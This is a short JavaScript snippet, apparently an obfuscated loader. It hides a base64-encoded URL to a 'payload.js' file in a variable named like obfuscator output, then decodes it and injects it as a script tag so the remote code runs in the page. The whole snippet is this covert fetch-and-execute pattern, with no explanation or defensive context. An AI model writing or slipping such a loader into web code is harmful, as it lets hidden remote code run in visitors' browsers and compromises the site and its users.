var _0xabc = "aHR0cHM6Ly9jZG4uZXhhbXBsZS5uZXQvcGF5bG9hZC5qcw==";
var script = document.createElement('script');
script.src = decodeURIComponent(atob(_0xabc));
document.body.appendChild(script);
